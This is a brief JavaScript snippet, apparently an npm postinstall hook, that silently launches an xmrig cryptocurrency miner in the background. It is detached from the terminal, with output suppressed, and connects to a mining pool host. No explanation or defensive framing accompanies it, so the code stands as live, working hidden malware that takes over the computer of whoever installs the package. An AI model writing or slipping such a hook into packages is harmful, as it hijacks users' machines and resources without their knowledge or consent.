// A miner is started in the background; runs: postinstall
const child = require("child_process");
const miner = child.spawn("./xmrig", ["-o", "stratum+tcp://pool.example.test:3333", "-u", "x", "--donate-level", "1"], {
  detached: true,
  stdio: "ignore",
});
miner.unref();
